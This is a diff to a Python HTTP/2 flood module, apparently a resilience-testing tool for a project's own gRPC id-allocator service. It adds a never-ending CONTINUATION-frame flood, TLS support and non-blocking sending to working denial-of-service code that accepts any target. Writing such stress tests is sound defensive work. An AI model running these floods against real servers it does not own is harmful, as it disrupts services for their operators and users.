@@ -1,14 +1,14 @@
 """Floods of HTTP/2 frames, which cost a client less than they may cost a server; see ``attacks.py``."""
 
 import socket
+import ssl
 import struct
-import threading
 import time
 from collections import Counter
 from collections.abc import Iterable, Iterator
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import suppress
 from itertools import count
+from select import select
 from typing import Any
 
 from idalloc.v1 import id_allocator_pb2 as pb
@@ -22,6 +22,7 @@ BATCH = 100
 CANCEL = 8
 # How long a flood waits for a server that neither reads nor writes, in seconds.
 PATIENCE = 10
+_WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
 
 
 class FrameBatches:
@@ -53,6 +54,10 @@ def _call(method: str = "AllocateRange", request: bytes = ORDERS, **how: Any) ->
     return http2.headers(1, method, **how), http2.message(1, request)
 
 
+def _without_end(headers: bytes) -> bytes:
+    return headers[:4] + bytes([headers[4] & ~http2.END_HEADERS]) + headers[5:]
+
+
 def _repeated_on_a_call(frame: bytes) -> FrameBatches:
     return FrameBatches(frame, opening=http2.headers(1, "AllocateRange"), renumber=False)
 
@@ -69,12 +74,26 @@ FLOODS: dict[str, Iterable[bytes]] = {
     "health_checks": FrameBatches(*_call("Check", b"", service="/grpc.health.v1.Health/")),
     "pings": FrameBatches(http2.frame(http2.PING, 0, 0, bytes(8)), renumber=False),
     "settings": FrameBatches(http2.settings(65_535), renumber=False),
+    # A header block of small frames that never ends.
+    "continuations": FrameBatches(
+        http2.frame(http2.CONTINUATION, 0, 1, b"\x00\x01x\x01v"),
+        opening=_without_end(http2.headers(1, "AllocateRange")),
+        renumber=False,
+    ),
     "empty_data": _repeated_on_a_call(http2.frame(http2.DATA, 0, 1)),
     "window_updates": _repeated_on_a_call(http2.frame(http2.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
 }
 
 
-def flood(target: str, number: int, seconds: float, concurrency: int, kind: str, **_others: Any) -> Counter[str]:
+def flood(
+    target: str,
+    number: int,
+    seconds: float,
+    concurrency: int,
+    kind: str,
+    tls: ssl.SSLContext | None = None,
+    **_others: Any,
+) -> Counter[str]:
     """Floods on ``concurrency`` connections for ``seconds``; each is reopened when the server closes it.
 
     Args:
@@ -83,6 +102,7 @@ def flood(target: str, number: int, seconds: float, concurrency: int, kind: str,
         seconds: Duration of the flood.
         concurrency: Connections at a time.
         kind: A key of ``FLOODS``.
+        tls: The client's context; by default connections have no TLS.
 
     Returns:
         Turns sent, bytes received, and connections opened and closed by the server.
@@ -94,7 +114,7 @@ def flood(target: str, number: int, seconds: float, concurrency: int, kind: str,
         while time.monotonic() < deadline and seen["connections"] < number:
             seen["connections"] += 1
             try:
-                with http2.connect(target, 2**31 - 1) as connection:
+                with http2.connect(target, 2**31 - 1, tls) as connection:
                     seen += _send(connection, FLOODS[kind], deadline)
             except OSError:
                 seen["hung up"] += 1
@@ -107,24 +127,32 @@ def flood(target: str, number: int, seconds: float, concurrency: int, kind: str,
 def _send(connection: socket.socket, batches: Iterable[bytes], deadline: float) -> Counter[str]:
     seen = Counter[str]()
     connection.settimeout(PATIENCE)
-    connection.sendall(http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)))
-    reader = threading.Thread(target=_read, args=[connection, seen])
-    reader.start()
     try:
+        connection.sendall(http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)))
+        connection.setblocking(False)
         for batch in batches:
-            connection.sendall(batch)
+            left = memoryview(batch)
+            while left:
+                seen["bytes"] += _drain(connection)
+                try:
+                    left = left[connection.send(left) :]
+                except _WOULD_BLOCK:
+                    if not any(select([connection], [connection], [], PATIENCE)):
+                        raise TimeoutError("the server neither reads nor writes") from None
             seen["sent"] += BATCH
             if time.monotonic() > deadline:
                 break
-        connection.shutdown(socket.SHUT_RDWR)
     except OSError:
         seen["hung up"] += 1
-    finally:
-        reader.join()
     return seen
 
 
-def _read(connection: socket.socket, seen: Counter[str]) -> None:
-    with suppress(OSError):
+def _drain(connection: socket.socket) -> int:
+    """Reads what has arrived; returns the number of bytes."""
+    size = 0
+    try:
         while data := connection.recv(1 << 20):
-            seen["bytes"] += len(data)
+            size += len(data)
+    except _WOULD_BLOCK:
+        return size
+    raise ConnectionResetError("the server closed it")
